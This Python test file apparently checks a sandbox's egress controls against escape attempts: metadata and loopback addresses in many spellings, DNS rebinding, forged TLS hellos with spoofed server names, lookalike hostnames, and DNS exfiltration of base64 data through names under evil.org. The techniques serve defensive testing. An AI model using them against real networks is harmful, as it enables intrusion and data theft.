"""Ways out of a sandbox past the rules of its network: rows 42 to 46, 49 and 50.

MOORAGE_TEST_LONG=1: 1,000 answers that change, and 1,000 changes of the rules.
"""

import itertools
import os
import signal
import socket
import time
import unittest

from named_hosts import ASK, EVIL, GET, GOOD, NamedHosts, gets, outside
from threat import TRY, harness, threat

LONG = os.environ.get("MOORAGE_TEST_LONG") == "1"
REBINDINGS = 1_000 if LONG else 50
CHANGES = 1_000 if LONG else 100
RESTARTS = 10 if LONG else 2  # of daemon and egress

# Addresses of the host, its networks and its cloud. They are only answers of DNS: nothing is sent to them.
FORBIDDEN = ["0.0.0.0", "10.0.0.1", "100.64.0.1", "100.100.100.200", "127.0.0.1", "127.255.255.254", "168.63.129.16", "169.254.1.1",
             "169.254.169.254", "169.254.170.2", "172.16.0.1", "172.31.255.254", "192.0.0.192", "192.168.0.1", "192.168.255.254",
             "198.18.0.1", "198.19.255.254", "224.0.0.1", "240.0.0.1", "255.255.255.255",
             "::", "::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::7f00:1",
             "2002:7f00:1::1", "2001:0:7f00:1::1", "fd00::1", "fe80::1", "fec0::1", "fd00:ec2::254", "ff02::1"]
SPELLINGS = ["127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0x7f.1", "0177.0.0.1", "017700000001",
             "127.0.0.01", "127.0.0.1.", "[::1]", "::1", "::ffff:127.0.0.1", "[::ffff:7f00:1]", "0"]

# Root in a network namespace tries to give itself an address and a route.
ADD_ADDRESS_AND_ROUTE = """
import errno, socket, struct
def change(kind, message):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.send(struct.pack("=IHHII", 16 + len(message), kind, 0x405, 1, 0) + message)
        return errno.errorcode.get(-struct.unpack("=i", s.recv(4096)[16:20])[0], "ok")
address = socket.inet_aton("10.9.9.9")
print(change(20, struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH", 8, 2) + address),
      change(24, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 255, 4, 254, 2, 0) + struct.pack("=HH", 8, 1) + address + struct.pack("=HHI", 8, 4, 1)))
"""


def hello(*extensions):
    """A TLS hello with these extensions, as OpenSSL's s_server would take it."""
    body = b"\x03\x03" + b"r" * 32 + b"\0" + b"\0\x02\xc0\x2b" + b"\x01\0"
    every = b"".join(kind.to_bytes(2, "big") + len(data).to_bytes(2, "big") + data for kind, data in extensions)
    body += len(every).to_bytes(2, "big") + every
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(message).to_bytes(2, "big") + message


def names(*hosts):
    """The extension with the server's name."""
    entries = b"".join(b"\0" + len(host).to_bytes(2, "big") + host for host in hosts)
    return 0, len(entries).to_bytes(2, "big") + entries


ENCRYPTED = (0xfe0d, b"\0\0\x01\0\x01\x07\0\x20" + b"k" * 32 + b"\0\x20" + b"c" * 32)  # RFC 9849
OTHERS = [(10, b"\0\x02\0\x17"), (11, b"\x01\0"), (13, b"\0\x04\x04\x03\x08\x04")]  # curves, points, signatures


class Arrivals(outside.Handler):
    """Notes when the connection of each request arrived."""

    def setup(self):
        self.arrived = time.monotonic_ns()
        super().setup()

    def do_GET(self):
        self.server.arrivals.append((self.path, self.arrived))
        super().do_GET()


class Egress(NamedHosts):
    @threat(42, "C", "reach the host, its networks or the internet without a rule",
            "there is lo alone, and no route but to addresses of the sandbox itself; root inside can add neither an address nor a route",
            "the host, by the same connection; root of another namespace, by the same messages")
    def test_without_a_rule_there_is_no_way_out(self):
        before = self.trap.connections
        self.assertEqual(self.out("tail -n +3 /proc/net/dev | cut -d: -f1").split(), ["lo"])
        attempts = [self.TRAP, "1.1.1.1", "10.0.0.1", "169.254.169.254", "2606:4700::1111", "fe80::1%lo"]
        for address in attempts:
            self.assertIn(self.get(address, 80, EVIL, 3), ("ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH", "EADDRNOTAVAIL"))
        self.assertEqual(self.trap.connections, before)
        self.assertEqual(self.python(ADD_ADDRESS_AND_ROUTE), "EPERM EPERM")
        # the controls
        self.assertIn("200 OK", self.on_host(gets(self.TRAP, 80, [EVIL])))
        alone = harness.run("unshare", "--net", "sh", "-c", 'ip link set lo up && exec python3 -c "$0"', ADD_ADDRESS_AND_ROUTE)
        self.assertEqual(alone.stdout, b"ok ok\n")

    @threat(43, "C", "an allowed name that leads to loopback, private, metadata or other addresses of the host; addresses in 16 spellings",
            "every address that the name resolves to is judged, and none of these is dialed; an address is not a name, in any spelling",
            "the same name passes when it leads to an address that the operator opened")
    def test_no_name_leads_to_an_address_of_the_host(self):
        port = self.everywhere.port
        hosts = {f"h{number}.turn.example": address for number, address in enumerate(FORBIDDEN)}
        mixed = {"both.turn.example": [*FORBIDDEN[:8], self.WEB]}
        self.dns.names |= hosts | mixed
        self.client.change_network("jail", allow=[f".turn.example:{port}"])
        self.everywhere.reached.clear()
        attack = GET + f"for number in range({len(hosts)}): print(get(f'h{{number}}.turn.example', {port}, b'x'))"
        self.assertEqual(self.python(attack).split("\n"), ["no name"] * len(hosts))
        for spelling in SPELLINGS:
            with self.assertRaises(harness.raw_api.ApiError):
                self.client.change_network("jail", allow=[f"{spelling}:{port}"])
        attack = GET + f"for spelling in {SPELLINGS}: print(get(spelling, {port}, b'x'))"
        self.assertLessEqual(set(self.python(attack).split("\n")), {"no name", "ECONNREFUSED", "ENETUNREACH", "EADDRNOTAVAIL"})
        self.assertEqual(self.everywhere.reached, [])
        self.get("both.turn.example", port, b"x")
        self.assertEqual(self.everywhere.reached, [self.WEB])
        self.dns.names |= {name: self.TRAP for name in hosts}
        self.forget_answers()
        for name in list(hosts)[:3]:
            self.get(name, port, b"x")
        self.assertEqual(self.everywhere.reached, [self.WEB] + [self.TRAP] * 3)

    @threat(44, "C", "DNS rebinding: the answer changes between the check and the connection",
            "the addresses that were judged are dialed, and no others",
            "a program that asks twice, as a naive proxy does, is led to the second address")
    def test_an_answer_that_changes_changes_nothing(self):
        port = self.everywhere.port
        answers, given = itertools.cycle([self.WEB, "127.0.0.1"]), []

        def turning(kind):
            if kind != outside.A:
                return []
            given.append(next(answers))
            return given[-1]

        self.dns.names["rebind.example"] = turning
        self.client.change_network("jail", allow=[f"rebind.example:{port}"])
        self.everywhere.reached.clear()
        attack = GET + f"""
import os
while not os.path.exists("stop-rebinding"): get("rebind.example", {port}, b"x", 3)
"""
        running = self.client.start_exec("jail", ["python3", "-c", attack])
        harness.wait_until(lambda: self.forget_answers() or len(given) >= REBINDINGS, 600, "answers that change")
        self.client.write_file("jail", "stop-rebinding", b"")
        self.assertEqual(self.client.wait(running["id"])["exit_code"], 0)
        self.assertEqual(set(self.everywhere.reached), {self.WEB})
        # the control
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.connect((self.resolver, 53))

            def ask():
                client.send(b"\0\7\1\0\0\1\0\0\0\0\0\0\6rebind\7example\0\0\1\0\1")
                return socket.inet_ntoa(client.recv(512)[-4:])

            while ask() != self.WEB:  # the check
                pass
            with socket.create_connection((ask(), port), 5) as connection:
                connection.recv(1)
        self.assertEqual(set(self.everywhere.reached), {self.WEB, "127.0.0.1"})

    @threat(45, "H", "TLS to an allowed host with another server name, with none or an encrypted one, to reach another site behind the same address",
            "the hello must name the host that was resolved, or it gets an alert and nothing reaches the host",
            "the same client with the right name completes its handshake; the same bytes get an answer of the host directly")
    def test_tls_must_name_the_host(self):
        attack = """
import socket, ssl
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
for name in ("evil.org", "web.example.evil.org", None, "127.0.0.1", "WEB.example"):
    try:
        with context.wrap_socket(socket.create_connection(("web.example", 443), 10), server_hostname=name) as s:
            print("passed")
    except ssl.SSLError as error:
        print("alert" if "UNRECOGNIZED_NAME" in str(error).upper() else error)
"""
        before = self.secure.connections
        self.assertEqual(self.python(attack).split(), ["alert"] * 4 + ["passed"])
        self.assertEqual(self.secure.connections, before + 1)
        hellos = [hello(names(b"public.example"), ENCRYPTED, *OTHERS), hello(ENCRYPTED, *OTHERS), hello(*OTHERS),
                  hello(names(b"web.example", b"evil.org"), *OTHERS), hello(names(b"evil.org", b"web.example"), *OTHERS),
                  hello(names(b"web.example\0.evil.org"), *OTHERS), hello(names(b"evil.org"), names(b"web.example"), *OTHERS),
                  hello(names(b""), *OTHERS), b"\x16\x03\x01\0\4\1\0\xff\xff" + b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n",
                  b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n", b"SSH-2.0-OpenSSH_9\r\n", b"\x80\x2e\1\3\1" + b"\0" * 43]
        refusals = {repr(b"\x15\x03\x03\0\2\2\x70"), "b''", "ECONNRESET"}
        self.assertLessEqual(set(self.python(gets("web.example", 443, hellos)).split("\n")), refusals)
        self.assertEqual(self.secure.connections, before + 1)
        # the controls: the right name, and the host itself
        good = hello(names(b"web.example"), *OTHERS)
        self.assertIn(r"\x16\x03\x03", self.python(gets("web.example", 443, [good])))
        self.assertEqual(self.secure.connections, before + 2)
        self.assertIn(r"\x16\x03\x03", self.on_host(gets(self.WEB, 443, hellos[:1])))

    @threat(46, "H", "names that look like an allowed one: suffixes, prefixes, dots, case, IDN, userinfo; ports that no rule names",
            "a name matches exactly or below a dot, after IDNA and in lower case; other ports are refused or reset",
            "the allowed name passes in its odd but equal spellings, and a port once a rule names it")
    def test_only_the_allowed_name_at_its_ports(self):
        self.client.change_network("jail", allow=["bücher.example", ".below.example"])
        known = self.dns.names

        class Everything(dict):  # all names exist
            def get(_, name, default=None):
                return known.get(name, self.WEB)

        self.dns.names = Everything()
        self.addCleanup(setattr, self.dns, "names", known)
        allowed = [b"web.example", b"xn--bcher-kva.example", b"below.example"]
        odd = {name[:at] + piece + name[at + cut:] for name in allowed for at in range(len(name) + 1) for cut in (0, 1)
               for piece in (b"\0", b"/", b"@", b"%00", b"-", b"x", b"\xc3\xbc", b" ")}
        odd |= {b"evil.org." + name for name in allowed[:2]} | {name + b".evil.org" for name in allowed}
        odd |= {b"user@" + name for name in allowed} | {"bücher.example".encode(), "ｗｅｂ.example".encode(), b"bucher.example",
                                                        b"notbelow.example", b"xn--web.example", b"xn--.example"}
        odd -= {name[:at] + piece + name[at + 1:] for name in allowed for at, piece in enumerate(map(bytes, zip(name)))}
        self.assertGreater(len(odd), 500)
        attack = ASK + f"""
for name in {sorted(odd)}:
    if ask(wire(name)) not in ((3, 0), (1, 0)): print(name, ask(wire(name)))
for name in (b"\\x0bweb.example\\0", b"\\3web\\xc0\\x0c", b"\\3web\\7example", b"\\x40" + b"w" * 64 + b"\\0"):
    if ask(name)[1]: print(name)
for name in ("web.example", "WEB.Example", "xn--bcher-kva.example", "XN--BCHER-KVA.EXAMPLE", "below.example", "A.b.below.example"):
    if ask(wire(name)) != (0, 1): print(name, ask(wire(name)))
"""
        self.assertEqual(self.python(attack), "")
        for name in ("web.example", "WEB.Example", "web.example."):
            self.assertIn("200 OK", self.get(name, 80, GOOD))
        special = self.close_later(outside.Host(self.WEB, 22))
        attack = GET + """
def connects(port):
    with socket.socket() as s:  # its own port may be this one: then it connects to itself
        return s.connect_ex((address, port)) == 0 and s.getsockname()[1] != port
address = socket.gethostbyname("web.example")
print([port for port in range(1, 65536) if connects(port)], get("web.example", 22, request("web.example")))
"""
        self.assertIn(self.python(attack), ("[22, 80, 443] ECONNRESET", "[22, 80, 443] b''"))
        self.assertEqual(special.connections, 0)
        self.client.change_network("jail", allow=["web.example:22"])
        self.addCleanup(self.client.change_network, "jail", allow=["web.example"])
        self.assertIn("200 OK", self.get("web.example", 22, GOOD))

    @threat(49, "C", "a refused host is tried every millisecond while the rules change, and while the daemon and the egress die",
            "no state lets it through: a rule counts from the answer of its request, and without whole rules nothing passes",
            "a host passes while a rule allows it")
    def test_a_change_of_rules_lets_nothing_slip_through(self):
        flip = self.close_later(outside.Host(self.FLIP, 80, handler=Arrivals))
        flip.arrivals = []
        self.dns.names["flip.example"] = self.FLIP
        before = self.trap.connections
        self.client.change_network("jail", allow=["flip.example"])
        # Requests carry the time at which they were begun, on a clock that inside and outside share.
        attack = GET + """
import time
passed = denied = 0
while not os.path.exists("stop-changes"):
    denied += get("evil.org", 80, request("evil.org"), 3) in ("no name", "ECONNRESET", "ECONNREFUSED", "timeout")
    get("flip.example", 80, request("flip.example", f"/{time.monotonic_ns()}"), 3)
    passed += b"200 OK" in bytes(str(get("web.example", 80, request("web.example"), 3)), "ascii")
    time.sleep(0.001)
print(passed, denied)
"""
        running = self.client.start_exec("jail", ["python3", "-c", attack])
        self.addCleanup(self.client.write_file, "jail", "stop-changes", b"")
        refused = []  # when no rule allowed flip.example
        for change in range(CHANGES // 2):
            self.client.change_network("jail", **{"deny" if change % 2 else "forget": ["flip.example"]})
            begin = time.monotonic_ns()
            if change % (CHANGES // 2 // RESTARTS) == RESTARTS:
                self.die()
            refused.append((begin, time.monotonic_ns()))
            self.client.change_network("jail", allow=["flip.example"])
        harness.wait_until(lambda: len(flip.arrivals) > 5, what="the allowed host is reached")
        self.client.write_file("jail", "stop-changes", b"")
        self.assertEqual(self.client.wait(running["id"])["exit_code"], 0)
        passed, denied = map(int, self.daemon.cli("logs", running["id"]).stdout.split())
        self.assertGreater(passed, 20)
        self.assertGreater(denied, 20)
        self.assertEqual(self.trap.connections, before)
        for path, arrived in flip.arrivals:  # a rule may allow it while the name is still asked for
            begun = int(path.removeprefix("/"))
            self.assertFalse([span for span in refused if span[0] < begun and arrived < span[1]], path)

    def die(self):
        """First the daemon, then the egress: nothing answers. Then both come back."""
        self.daemon.kill()
        for pid in self.egress_pids():
            os.kill(pid, signal.SIGKILL)
        self.daemon.start()
        harness.wait_until(lambda: "200 OK" in self.get("web.example", 80, GOOD),
                           what="the network is back")

    @threat(50, "H", "carry data out in names that are asked for",
            "only names that a rule allows are asked outside, and no other resolver can be reached",
            "the allowed name is asked for outside, and so are names below one, where a rule allows these")
    def test_names_carry_nothing_out(self):
        asked, known = [], self.dns.names

        class Recording(dict):
            def get(self, name, default=None):
                asked.append(name)
                return known.get(name, default)

        self.dns.names = Recording()
        self.addCleanup(setattr, self.dns, "names", known)
        self.forget_answers()
        attack = ASK + TRY + """
for name in ("c2VjcmV0.evil.org", "c2VjcmV0.web.example", "c2VjcmV0.example", "c2VjcmV0", "1.0.0.127.in-addr.arpa", "web.example.local"):
    for kind in (1, 28, 2, 5, 6, 12, 15, 16, 33, 64, 65, 255, 10):
        if ask(wire(name), kind) != (3, 0): print(name, kind)
for kind in (16, 15, 10, 255, 65):
    if ask(wire("web.example"), kind) != (0, 0): print(kind)
for resolver in ("127.0.0.1", "127.0.0.11", "8.8.8.8", "{}", "224.0.0.251"):
    print(attempt(lambda: ask(wire("evil.org"), 1, resolver)))
print(ask(wire("web.example")))
"""
        got = self.python(attack.replace("{}", self.resolver)).split("\n")
        self.assertLessEqual(set(got[:-1]), {"ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH", "EPERM"})
        self.assertEqual((len(got), got[-1]), (6, "(0, 1)"))
        self.assertEqual(set(asked), {"web.example"})
        self.client.change_network("jail", allow=[".web.example"])
        self.addCleanup(self.client.change_network, "jail", forget=[".web.example"])
        self.python(ASK + "ask(wire('c2VjcmV0.web.example'))")
        self.assertIn("c2vjcmv0.web.example", asked)


if __name__ == "__main__":
    unittest.main()
